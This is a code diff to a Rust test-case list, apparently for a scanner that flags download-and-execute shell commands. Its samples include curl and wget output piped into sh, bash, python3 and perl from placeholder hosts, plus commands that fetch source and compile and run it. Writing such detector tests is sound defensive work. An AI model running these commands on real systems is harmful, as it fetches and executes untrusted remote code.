@@ -23,7 +23,7 @@ pub(super) fn cases() -> Vec<Case> {
         sh(GROUP, "fetched over TLS and run, curl", &["D-DLX-FETCHEXEC"], "cd /var; curl -ks -o up https://updates.example/linux-amd64; chmod 700 up; ./up")
             .with(&[Tool::Curl]),
         sh(GROUP, "piped into a shell, wget", &["D-DLX-PIPESH"], "wget -q -O - http://203.0.113.7/i.sh | sh"),
-        bash(GROUP, "piped into a shell, curl", &["D-DLX-PIPESH"], "curl -s https://get.example/setup | bash -s -- -q").with(&[Tool::Curl]),
+        bash(GROUP, "piped into a shell, curl", &["D-DLX-PIPESH"], "curl -s https://get.example/setup | bash -s -- -q").with(&[Tool::Curl]).suspicious(),
         sh(GROUP, "piped into an interpreter, curl", &["D-DLX-PIPESH"], "curl -s http://192.0.2.88/m.py | python3 -").with(&[Tool::Curl, Tool::Python]),
         sh(GROUP, "piped into an interpreter, perl", &["D-DLX-PIPESH"], "wget -qO- http://192.0.2.14/bot.pl | perl").with(&[Tool::Perl]),
         sh(
@@ -83,7 +83,7 @@ pub(super) fn cases() -> Vec<Case> {
             GROUP,
             "fetched as source and compiled, wget",
             &["D-DLX-COMPILE", "D-DLX-FETCHEXEC"],
-            "wget -q -O /tmp/s.c http://203.0.113.30/s.c; echo 'int main(void){return 0;} void _start(void){__asm__(\"mov $60,%eax;xor %edi,%edi;syscall\");}' > /tmp/s.c; gcc -nostdlib -static -o /tmp/s /tmp/s.c && /tmp/s && echo compiled",
+            "wget -q -O /tmp/s.c http://203.0.113.30/s.c; echo 'int main(void){return 0;} void _start(void){__asm__(\"mov $60,%eax;xor %edi,%edi;syscall\");}' > /tmp/s.c; gcc -nostdinc -nostdlib -static -o /tmp/s /tmp/s.c && /tmp/s && echo compiled",
         )
         .with(&[Tool::Compiler])
         .suspicious(),
@@ -91,7 +91,7 @@ pub(super) fn cases() -> Vec<Case> {
             GROUP,
             "fetched as source and compiled, python",
             &["D-DLX-COMPILE", "D-DLX-FETCHEXEC"],
-            "import subprocess, urllib.request\nurllib.request.urlopen('https://src.example/p.c').read()\nopen('/var/tmp/p.c', 'w').write('void _start(void){__asm__(\"mov $60,%eax;xor %edi,%edi;syscall\");}')\nsubprocess.check_call(['gcc', '-nostdlib', '-static', '-o', '/var/tmp/p', '/var/tmp/p.c'])\nsubprocess.check_call(['/var/tmp/p'])\n",
+            "import subprocess, urllib.request\nurllib.request.urlopen('https://src.example/p.c').read()\nopen('/var/tmp/p.c', 'w').write('void _start(void){__asm__(\"mov $60,%eax;xor %edi,%edi;syscall\");}')\nsubprocess.check_call(['gcc', '-nostdinc', '-nostdlib', '-static', '-o', '/var/tmp/p', '/var/tmp/p.c'])\nsubprocess.check_call(['/var/tmp/p'])\n",
         )
         .with(&[Tool::Compiler])
         .suspicious(),
